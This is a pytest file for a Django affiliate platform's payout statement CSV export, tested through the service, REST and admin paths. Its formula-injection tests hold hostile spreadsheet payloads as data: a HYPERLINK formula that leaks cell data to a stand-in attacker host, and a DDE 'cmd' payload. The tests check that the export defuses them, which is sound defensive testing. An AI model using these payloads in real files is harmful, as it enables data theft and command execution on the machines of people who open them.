"""Partner statements: one payout and its conversions as CSV, over REST and in the admin, built
by one function (conversions.statements.payout_statement)."""

import csv
import io
import zoneinfo
from decimal import Decimal

import pytest
from django.contrib.admin.utils import quote
from django.urls import reverse

from brands.models import StaffRole
from conversions.models import Payout
from conversions.payouts import payout_mark_paid, payouts_generate
from conversions.services import conversion_approve
from conversions.statements import STATEMENT_COLUMNS, csv_safe, payout_statement
from core.errors import NotFoundError
from tests.conftest import client_with_key, issue_key, make_actor
from tests.conversions.factories_flow import accepted_click, record
from tests.factories import OfferFactory, PartnerFactory, StaffMembershipFactory

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'


def build_payout(brand, *, partner_name="ABC Media", txn_ids=("T-1", "T-2", "T-3")):
    """Recorded through the postback service, approved, then batched into one payout."""
    actor = make_actor(brand)
    offer = OfferFactory(brand=brand, slug="spring-sale", payout_amount=Decimal("4.50"))
    partner = PartnerFactory(brand=brand, slug="abc-123", name=partner_name)
    conversions = []
    for n, txn_id in enumerate(txn_ids):
        click = accepted_click(brand, offer, partner, seconds_ago=7200 + n)
        conversion = record(brand, offer, click=click, txn_id=txn_id, amount=f"{100 + n}.00")
        conversion_approve(actor=actor, conversion=conversion)
        conversions.append(conversion)
    (payout,) = payouts_generate(actor=actor)
    return payout, conversions


def parse(content):
    """(summary dict, column names, rows as dicts) of a statement."""
    lines = list(csv.reader(io.StringIO(content)))
    blank = lines.index([])
    summary = dict(lines[:blank])
    columns, *rows = lines[blank + 1 :]
    return summary, columns, [dict(zip(columns, row, strict=True)) for row in rows]


@pytest.fixture
def tokyo_brand(brand):
    brand.timezone = "Asia/Tokyo"
    brand.save()
    return brand


def test_statement_content_and_totals_equal_the_payout_amount(tokyo_brand):
    payout, conversions = build_payout(tokyo_brand)
    statement = payout_statement(actor=make_actor(tokyo_brand), payout_id=payout.pk)
    summary, columns, rows = parse(statement.content)
    assert tuple(columns) == STATEMENT_COLUMNS
    assert summary["payout_id"] == payout.pk
    assert (summary["partner_id"], summary["partner_name"]) == ("abc-123", "ABC Media")
    assert summary["period_end"] == payout.period_end.isoformat()
    assert summary["period_start"] == payout.period_start.isoformat()
    assert (summary["status"], summary["currency"], summary["time_zone"]) == (
        "pending",
        "USD",
        "Asia/Tokyo",
    )
    assert summary["entries"] == "3"
    assert Decimal(summary["total"]) == payout.amount == Decimal("13.50")
    assert Decimal(summary["entries_total"]) == payout.amount
    assert Decimal(summary["commissions_total"]) == payout.amount
    assert Decimal(summary["reversals_total"]) == Decimal(summary["adjustments_total"]) == 0
    assert sum(Decimal(row["amount"]) for row in rows) == payout.amount
    assert statement.entries_total == payout.amount
    assert [row["conversion_id"] for row in rows] == [c.pk for c in conversions]  # oldest first
    first = conversions[0]
    first.refresh_from_db()
    tokyo = first.created_at.astimezone(zoneinfo.ZoneInfo("Asia/Tokyo"))
    assert tokyo.utcoffset().total_seconds() == 9 * 3600
    utc_text = first.created_at.astimezone(zoneinfo.ZoneInfo("UTC")).strftime("%Y-%m-%d %H:%M:%S")
    assert rows[0]["date"] != utc_text
    commission = first.ledger_entries.get()
    assert rows[0] == {
        "entry_id": commission.pk,
        "kind": "commission",
        "conversion_id": first.pk,
        "date": tokyo.strftime("%Y-%m-%d %H:%M:%S"),
        "offer_id": "spring-sale",
        "event": "sale",
        "txn_id": "T-1",
        "sale_amount": "100.00",
        "amount": "4.50",
        "status": "approved",
        "currency": "USD",
        "reason": "",
    }
    assert statement.filename == f"statement-{payout.pk}.csv"
    assert statement.content.endswith("\r\n")


def test_paid_statement_shows_the_payment(brand):
    payout, _ = build_payout(brand)
    payout_mark_paid(actor=make_actor(brand), payout=payout, method="wire", reference="W-77")
    summary, _, rows = parse(payout_statement(actor=make_actor(brand), payout_id=payout.pk).content)
    assert (summary["status"], summary["method"], summary["reference"]) == ("paid", "wire", "W-77")
    assert summary["paid_at"]
    assert {row["status"] for row in rows} == {"paid"}


def test_only_the_payouts_own_conversions_are_listed(brand):
    payout, conversions = build_payout(brand)
    offer = conversions[0].offer
    later = record(
        brand,
        offer,
        click=accepted_click(brand, offer, conversions[0].partner),
        txn_id="LATER",
    )
    conversion_approve(actor=make_actor(brand), conversion=later)  # approved, in no payout yet
    _, _, rows = parse(payout_statement(actor=make_actor(brand), payout_id=payout.pk).content)
    assert "LATER" not in {row["txn_id"] for row in rows}
    assert len(rows) == 3


@pytest.mark.parametrize(
    ("raw", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("T-1", "T-1"),
        ("", ""),
        ("a=b", "a=b"),
    ],
)
def test_csv_safe(raw, safe):
    assert csv_safe(raw) == safe


def test_formula_injection_is_defused(brand):
    payout, _ = build_payout(brand, partner_name="@SUM(1+1)*cmd|' /C calc'!A0", txn_ids=[INJECTION])
    payout_mark_paid(actor=make_actor(brand), payout=payout, method="wire", reference="-2+3")
    summary, _, rows = parse(payout_statement(actor=make_actor(brand), payout_id=payout.pk).content)
    assert rows[0]["txn_id"] == "'" + INJECTION
    assert summary["partner_name"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert summary["reference"] == "'-2+3"
    for value in [*summary.values(), *rows[0].values()]:
        assert not value.startswith(("=", "+", "-", "@")), value


def test_statement_of_another_brand_is_not_found(brand, other_brand):
    payout, _ = build_payout(other_brand)
    with pytest.raises(NotFoundError) as foreign:
        payout_statement(actor=make_actor(brand), payout_id=payout.pk)
    with pytest.raises(NotFoundError) as missing:
        payout_statement(actor=make_actor(brand), payout_id="pay_doesnotexist")
    assert str(foreign.value).replace(payout.pk, "X") == str(missing.value).replace(
        "pay_doesnotexist", "X"
    )


# --- REST -----------------------------------------------------------------------------------


def statement_url(payout_id):
    return f"/api/v1/payouts/{payout_id}/statement.csv"


def test_rest_statement_download(brand, api):
    payout, _ = build_payout(brand)
    response = api.get(statement_url(payout.pk))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="statement-{payout.pk}.csv"'
    content = response.content.decode()
    assert content == payout_statement(actor=make_actor(brand), payout_id=payout.pk).content
    summary, _, rows = parse(content)
    assert Decimal(summary["total"]) == sum(Decimal(r["amount"]) for r in rows) == payout.amount


def test_rest_statement_with_accept_csv_and_read_only_key(brand, read_api):
    payout, _ = build_payout(brand)
    response = read_api.get(statement_url(payout.pk), HTTP_ACCEPT="text/csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


def test_rest_statement_tenant_isolation(brand, other_brand, api):
    foreign, _ = build_payout(other_brand)
    response = api.get(statement_url(foreign.pk))
    missing = api.get(statement_url("pay_doesnotexist"), HTTP_ACCEPT="text/csv")
    assert response.status_code == missing.status_code == 404
    assert response.json()["error"]["code"] == missing.json()["error"]["code"] == "not_found"
    assert response["Content-Type"] == "application/json"
    other_key = client_with_key(issue_key(other_brand))
    assert other_key.get(statement_url(foreign.pk)).status_code == 200


def test_rest_statement_needs_a_key(db, client, brand):
    payout, _ = build_payout(brand)
    assert client.get(statement_url(payout.pk)).status_code == 401


def test_statement_endpoint_is_in_the_openapi_document(db, client):
    doc = client.get("/api/v1/openapi.json").json()
    operation = doc["paths"]["/api/v1/payouts/{payout_id}/statement.csv"]["get"]
    assert "text/csv" in operation["responses"]["200"]["content"]


# --- admin ----------------------------------------------------------------------------------


def admin_statement_url(payout):
    # The admin escapes "_" in object ids in its URLs (pay_… → pay_5F…).
    return reverse("admin:conversions_payout_statement", args=[quote(payout.pk)])


@pytest.mark.parametrize("role", [StaffRole.OWNER, StaffRole.ADMIN, StaffRole.ANALYST])
def test_admin_download_for_staff_of_the_brand(client, brand, role):
    payout, _ = build_payout(brand)
    client.force_login(StaffMembershipFactory(brand=brand, role=role).user)
    response = client.get(admin_statement_url(payout))
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment;")
    assert (
        response.content.decode()
        == payout_statement(actor=make_actor(brand), payout_id=payout.pk).content
    )


def test_admin_lists_the_download_link(client, brand):
    payout, _ = build_payout(brand)
    client.force_login(StaffMembershipFactory(brand=brand, role=StaffRole.ANALYST).user)
    changelist = client.get(reverse("admin:conversions_payout_changelist")).content.decode()
    change = client.get(
        reverse("admin:conversions_payout_change", args=[quote(payout.pk)])
    ).content.decode()
    for html in (changelist, change):
        assert f'href="{admin_statement_url(payout)}"' in html
        assert "Download statement (CSV)" in html


def test_admin_download_refused_for_another_brand(client, brand, other_brand):
    payout, _ = build_payout(brand)
    outsider = StaffMembershipFactory(brand=other_brand, role=StaffRole.OWNER).user
    client.force_login(outsider)
    assert client.get(admin_statement_url(payout)).status_code == 404
    missing = reverse("admin:conversions_payout_statement", args=["pay_doesnotexist"])
    assert client.get(missing).status_code == 404


def test_admin_download_needs_login(client, brand):
    payout, _ = build_payout(brand)
    response = client.get(admin_statement_url(payout))
    assert response.status_code == 302
    assert "/admin/login/" in response["Location"]
    assert not Payout.objects.exclude(pk=payout.pk).exists()


def test_superuser_downloads_any_brand(client, brand, other_brand, django_user_model):
    payout, _ = build_payout(other_brand)
    root = django_user_model.objects.create_superuser("root", "root@example.com", "pw")
    client.force_login(root)
    assert client.get(admin_statement_url(payout)).status_code == 200


def test_a_refund_after_payout_is_a_line_of_the_next_statement(brand):
    """Statements reconcile to the cent with the ledger, across payouts."""
    from conversions.ledger import ledger_adjustment_create
    from conversions.reversals import conversion_reverse

    actor = make_actor(brand)
    first, conversions = build_payout(brand, txn_ids=("A-1", "A-2"))
    payout_mark_paid(actor=actor, payout=first, method="wire")
    conversion_reverse(actor=actor, conversion=conversions[0], reason="refund", note="-RMA 7")
    offer, partner = conversions[0].offer, conversions[0].partner
    for txn_id in ("B-1", "B-2"):
        later = record(brand, offer, click=accepted_click(brand, offer, partner), txn_id=txn_id)
        conversion_approve(actor=actor, conversion=later)
    ledger_adjustment_create(
        actor=actor, partner=partner, currency="USD", amount="0.01", reason="=rounding"
    )
    (second,) = payouts_generate(actor=actor)
    summary, _, rows = parse(payout_statement(actor=actor, payout_id=second.pk).content)
    assert second.amount == Decimal("4.51")  # 4.50 + 4.50 − 4.50 + 0.01
    assert sum(Decimal(row["amount"]) for row in rows) == second.amount
    assert Decimal(summary["entries_total"]) == Decimal(summary["total"]) == second.amount
    assert (
        summary["commissions_total"],
        summary["reversals_total"],
        summary["adjustments_total"],
    ) == ("9.00", "-4.50", "0.01")
    reversal = next(row for row in rows if row["kind"] == "reversal")
    assert (reversal["conversion_id"], reversal["txn_id"], reversal["amount"]) == (
        conversions[0].pk,
        "A-1",
        "-4.50",
    )
    assert (reversal["status"], reversal["reason"]) == ("reversed", "refund -RMA 7")
    adjustment = next(row for row in rows if row["kind"] == "adjustment")
    assert (adjustment["conversion_id"], adjustment["reason"]) == ("", "'=rounding")
    # the first statement is unchanged: what it paid stays what it paid
    summary, _, rows = parse(payout_statement(actor=actor, payout_id=first.pk).content)
    assert [row["amount"] for row in rows] == ["4.50", "4.50"]
    assert summary["total"] == "9.00"
